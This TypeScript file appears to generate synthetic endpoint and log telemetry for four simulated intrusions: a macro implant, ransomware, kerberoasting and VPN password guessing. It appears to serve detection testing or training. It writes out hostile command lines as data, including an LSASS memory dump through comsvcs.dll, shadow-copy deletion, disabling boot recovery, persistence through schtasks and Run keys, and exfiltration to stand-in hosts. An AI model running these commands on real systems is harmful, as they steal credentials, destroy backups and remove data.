import { system } from '../endpoint-rows.ts';
import { onWindows } from '../programs.ts';
import { domainSid } from '../world.ts';
import { encoded, programOf, type Teller } from './teller.ts';

const folder = 'C:\\Windows\\System32';

/** A macro brings an implant, which stays, steals passwords and calls home. */
export function macroImplant(t: Teller): void {
  const victim = t.person(6);
  const control = t.address(107);
  const { laptop } = victim;
  t.start(
    laptop,
    0,
    victim,
    onWindows.powershell.folder + '\\powershell.exe',
    encoded('IEX implant one'),
    onWindows.word,
  );
  t.file(laptop, 0.1, victim, 'svchelper.dll', 'C:\\ProgramData\\mx', `https://${t.site('cdn.tools-pack.example')}/x`);
  t.registry(
    laptop,
    0.2,
    victim,
    'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
    'MxHelper',
    'rundll32.exe C:\\ProgramData\\mx\\svchelper.dll,Run',
  );
  t.start(
    laptop,
    3,
    victim,
    `${folder}\\schtasks.exe`,
    'schtasks.exe /create /sc minute /tn mx /tr "rundll32.exe C:\\ProgramData\\mx\\svchelper.dll,Run"',
  );
  t.event(laptop, 5, 4663, {
    SubjectUserSid: victim.sid,
    SubjectUserName: victim.account,
    SubjectDomainName: 'CONTOSO',
    SubjectLogonId: '0x3e8',
    ObjectType: 'File',
    ObjectName: `C:\\Users\\${victim.account}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data`,
    ProcessName: 'C:\\Windows\\System32\\rundll32.exe',
    AccessMask: '0x1',
  });
  t.connect(laptop, 8, victim, onWindows.rundll32, control, 'cdn.tools-pack.example');
  for (const [n, command] of [
    'whoami.exe /all',
    'net.exe view',
    'nltest.exe /dclist:',
    'systeminfo.exe',
    'quser.exe',
  ].entries())
    t.start(laptop, 9 + n / 60, victim, `${folder}\\${command.split(' ')[0]}`, command);
}

/** Ransomware: from one laptop over an administrator's account to laptops and a file server. */
export function ransomware(t: Teller): void {
  const first = t.person(7);
  const others = [t.person(8), t.person(9)];
  const files = t.ownServer('fs01');
  const pay = t.address(108);
  t.start(
    first.laptop,
    0,
    first,
    onWindows.powershell.folder + '\\powershell.exe',
    encoded('IEX loader two'),
    onWindows.explorer,
  );
  t.connect(first.laptop, 0.3, first, onWindows.powershell, pay, t.site('update.locker-cdn.example'));
  t.start(
    first.laptop,
    4,
    system,
    `${folder}\\rundll32.exe`,
    `rundll32.exe ${folder}\\comsvcs.dll, MiniDump 704 C:\\Windows\\Temp\\q.dmp full`,
  );
  for (const [n, device] of [files, ...others.map(({ laptop }) => laptop)].entries()) {
    const hour = 7 + n * 0.2;
    t.otherCredentials(first.laptop, hour - 0.05, first, { account: 'svc-backup', sid: `${domainSid}-1110` }, device);
    t.service(device, hour, first, 'LckSvc', `%COMSPEC% /Q /c ${encoded('locker')}`);
    t.start(device, hour + 0.1, system, 'C:\\ProgramData\\lck\\lck.exe', 'lck.exe --all');
    t.start(
      device,
      hour + 0.15,
      system,
      `${folder}\\vssadmin.exe`,
      'vssadmin.exe delete shadows /all /quiet',
      programOf('C:\\ProgramData\\lck\\lck.exe'),
    );
    t.start(
      device,
      hour + 0.16,
      system,
      `${folder}\\bcdedit.exe`,
      'bcdedit.exe /set {default} recoveryenabled No',
      programOf('C:\\ProgramData\\lck\\lck.exe'),
    );
    t.logCleared(device, hour + 0.4, first);
  }
}

/** Service tickets are cracked, then the directory replicated, then an account of one's own. */
export function kerberoasting(t: Teller): void {
  const victim = t.person(10);
  const controller = t.estate.server('dc01');
  for (const [n, name] of ['svc-sql', 'svc-backup', 'svc-monitor', 'svc-adsync'].entries())
    t.event(controller, 0.2 + n / 60, 4769, {
      TargetUserName: `${victim.account}@CONTOSO.COM`,
      TargetDomainName: 'CONTOSO.COM',
      ServiceName: name,
      ServiceSid: `${domainSid}-${1_110 + n}`,
      TicketOptions: '0x40810000',
      TicketEncryptionType: '0x17',
      IpAddress: `::ffff:${victim.laptop.ip}`,
      IpPort: '50122',
      Status: '0x0',
    });
  for (const [n, command] of [
    'whoami.exe /all',
    'net.exe group "Domain Admins" /domain',
    'nltest.exe /domain_trusts',
    'klist.exe',
    'quser.exe',
  ].entries())
    t.start(victim.laptop, 1 + n / 60, victim, `${folder}\\${command.split(' ')[0]}`, command);
  t.otherCredentials(victim.laptop, 6, victim, { account: 'svc-sql', sid: `${domainSid}-1111` }, controller);
  t.event(controller, 7, 4662, {
    SubjectUserSid: victim.sid,
    SubjectUserName: victim.account,
    SubjectDomainName: 'CONTOSO',
    SubjectLogonId: '0x77aa',
    ObjectServer: 'DS',
    ObjectType: '%{19195a5b-6da0-11d0-afd3-00c04fd930c9}',
    ObjectName: '%{dc=contoso}',
    OperationType: 'Object Access',
    AccessMask: '0x100',
    Properties: '%%7688 {1131f6aa-9c07-11d1-f79f-00c04fc2dcd2} {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}',
  });
  t.event(controller, 9, 4728, {
    MemberName: `CN=${victim.account},CN=Users,DC=contoso,DC=com`,
    MemberSid: victim.sid,
    TargetUserName: 'Domain Admins',
    TargetDomainName: 'CONTOSO',
    TargetSid: `${domainSid}-512`,
    SubjectUserSid: victim.sid,
    SubjectUserName: victim.account,
    SubjectDomainName: 'CONTOSO',
    SubjectLogonId: '0x77aa',
    PrivilegeList: '-',
  });
  t.logCleared(controller, 12, victim);
}

/** The VPN's password is guessed; from there over remote services to a server. */
export function vpnToServer(t: Teller): void {
  const victim = t.person(11);
  const ip = t.address(109);
  const target = t.ownServer('app01');
  for (let n = 0; n < 15; n++) t.signIn(victim, 0.1 + n * 0.02, ip, { error: 50126, mfa: 'none', app: apps });
  t.signIn(victim, 0.6, ip, { risks: ['unfamiliarFeatures'], app: apps });
  t.logon(target, 2, victim, victim.vpnIp);
  t.service(target, 2.1, victim, 'RemHelp', `C:\\ProgramData\\rh.exe`);
  t.start(
    target,
    2.2,
    system,
    onWindows.powershell.folder + '\\powershell.exe',
    encoded('IEX three'),
    onWindows.services,
  );
  t.start(
    target,
    3,
    system,
    `${folder}\\rundll32.exe`,
    `rundll32.exe ${folder}\\comsvcs.dll, MiniDump 700 C:\\Windows\\Temp\\v.dmp full`,
  );
  t.start(
    target,
    5,
    victim,
    'C:\\ProgramData\\rh\\7z.exe',
    '7z.exe a -pabc123 -v500m C:\\ProgramData\\rh\\d.7z D:\\Data',
  );
  t.connect(
    target,
    6,
    victim,
    { file: 'rclone.exe', folder: 'C:\\ProgramData\\rh' },
    ip,
    t.site('store.remote-help.example'),
  );
  t.upload(target, 6.05, ip, 'store.remote-help.example', 3);
  t.logCleared(target, 9, victim);
}

const apps = {
  name: 'Contoso VPN',
  id: '6d6f7f2b-9f0d-4a0d-8a9e-1f5f3f9c2b11',
  resource: 'Contoso VPN',
  resourceId: '6d6f7f2b-9f0d-4a0d-8a9e-1f5f3f9c2b12',
};
